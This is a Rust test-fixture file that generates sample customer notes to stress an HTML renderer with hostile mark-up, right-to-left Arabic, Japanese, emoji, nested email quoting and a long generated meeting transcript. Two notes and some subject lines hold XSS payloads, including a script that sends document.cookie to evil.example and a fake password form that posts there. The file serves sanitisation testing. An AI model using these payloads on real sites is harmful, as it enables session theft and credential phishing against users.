//! Notes that real systems hold and that break careless readers: hostile mark-up, right-to-left, emoji, very long.

/// A note with a company to belong to and its age in days.
pub(super) struct Peculiar {
    pub(super) company: &'static str,
    pub(super) days_ago: i64,
    pub(super) kind: &'static str,
    pub(super) subject: &'static str,
    pub(super) notes: String,
}

/// All of them.
pub(super) fn notes() -> Vec<Peculiar> {
    let note = |company, days_ago, kind, subject, notes: &str| Peculiar {
        company,
        days_ago,
        kind,
        subject,
        notes: notes.to_owned(),
    };
    vec![
        note(
            "Northwind Traders",
            203,
            "Email",
            "Fwd: <b>Label printer</b> \"urgent\" & unanswered",
            r#"<p onmouseover="alert(document.domain)">Forwarded from the printer vendor, mark-up and all.</p><script>fetch('//evil.example/?c='+document.cookie)</script><img src=x onerror="alert(1)"><p>Short version: firmware 2.11 fixes the lost queue. Ben has it scheduled for Sunday.</p>"#,
        ),
        note(
            "Iron Orchard Cider",
            64,
            "Update",
            "<img src=x onerror=alert('subject')>Season plan",
            r#"<svg onload=alert(1)></svg><p style="position:fixed;inset:0;background:#fff;z-index:9999">Covers the whole page if styles survive.</p><a href="javascript:alert(1)">their wiki</a> · <a href=" data:text/html,<script>alert(1)</script>">plan</a><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password" placeholder="Session expired, password?"></form><p>Restart planned for the first pressing.</p>"#,
        ),
        note(
            "Copperleaf Foods",
            118,
            "Meeting",
            "Audit prep 🧊🐟 &amp; batch trace (final-FINAL v3)",
            "<p>✅ trace in 8 min 40 s 🎉<br>⚠️ two labels unreadable 😬<br>❌ supplier 4711 has no lot numbers at all 🤷🏽‍♀️</p><p>Family of four for the record: 👨‍👩‍👧‍👦, flag: 🏴󠁧󠁢󠁷󠁬󠁳󠁿. If you see boxes here, it is your font.</p>",
        ),
        note(
            "Al Noor Facilities",
            41,
            "Call",
            "متابعة المرحلة الثانية – Business Bay",
            r#"<p dir="rtl">تم الاتفاق على بدء المرحلة الثانية يوم الأحد. زمن الاستجابة الحالي <strong>42 دقيقة</strong>، والهدف 30 دقيقة.</p><p>English for Tom: wave two starts on Sunday, response time is 42 minutes, target 30.</p><p dir="rtl">المسؤولة: نورة الكعبي (<a href="mailto:noura.alkaabi@alnoorfm.example">noura.alkaabi@alnoorfm.example</a>)</p>"#,
        ),
        note(
            "Sakura Components",
            77,
            "Meeting",
            "第3四半期レビュー（豊橋工場）",
            "<p>田中様より：ライン4の段取り替え時間は平均<strong>23分</strong>まで短縮。目標は18分。</p><ul><li>次回：金型温度のデータを追加</li><li>岐阜は来月から</li></ul><p>(Summary: changeover on line 4 is at 23 minutes, target 18; Gifu starts next month.)</p>",
        ),
        note("Meridian Cold Storage", 96, "Call", "Transcript: design call dock scheduling (automatic)", &transcript()),
        note(
            "Halden Maskin",
            150,
            "Email",
            "RE: RE: FW: SV: Re: status",
            "<html><head><style>p{display:none}</style></head><body bgcolor=\"#ffffff\"><table width=\"100%\"><tr><td><font face=\"Arial\" size=\"2\">See below.<br></font><blockquote type=\"cite\">&gt; See below.<br><blockquote type=\"cite\">&gt;&gt; Is hall 3 running?<br></blockquote></blockquote></td></tr></table><p>&amp;nbsp;</p></body></html>",
        ),
        note(
            "Solstice Energy",
            58,
            "Update",
            "Haugesund: <script>alert(1)</script> in device name",
            "<p>One edge node reports its name as <code>&lt;script&gt;alert(1)&lt;/script&gt;</code>. A joke by the installer, found by our own tests. Renamed.</p><p>Pavel laughed; Ingrid did not.</p>",
        ),
    ]
}

/// About a hundred kilobytes of talk.
fn transcript() -> String {
    const LINES: &[(&str, &str)] = &[
        ("Nora Quinn", "Can everybody see the plan of the yard? I will zoom in on doors nine to fourteen."),
        (
            "Michael Chen",
            "Those are the two doors that freeze shut in January, so whatever the model says, nobody books them.",
        ),
        (
            "Tom Okafor",
            "Then the model should know. A door can have a season; it is one field, we just never filled it.",
        ),
        (
            "Michael Chen",
            "If it is one field then fill it, please, before the planners see a green slot that is solid ice.",
        ),
        (
            "Nora Quinn",
            "Noted. Next: carriers who book three slots and come to one. How often does that happen in a week?",
        ),
        ("Michael Chen", "Ask the guard, he has it on paper. I would say thirty times, and forty before Thanksgiving."),
        ("Tom Okafor", "We can release a slot after twenty minutes and text the next truck on the list."),
        (
            "Michael Chen",
            "Fifteen. After fifteen minutes my crew has left the dock, and getting them back takes another ten.",
        ),
    ];
    let mut html = String::with_capacity(110_000);
    html.push_str("<p><em>Automatic transcript, not reviewed.</em></p>");
    for turn in 0..900_usize {
        let (speaker, line) = LINES[turn % LINES.len()];
        let (minute, second) = (turn / 15, turn % 15 * 4);
        let said = format!("<p>[{minute:02}:{second:02}] <strong>{speaker}:</strong> {line}</p>");
        html.push_str(&said);
    }
    html
}
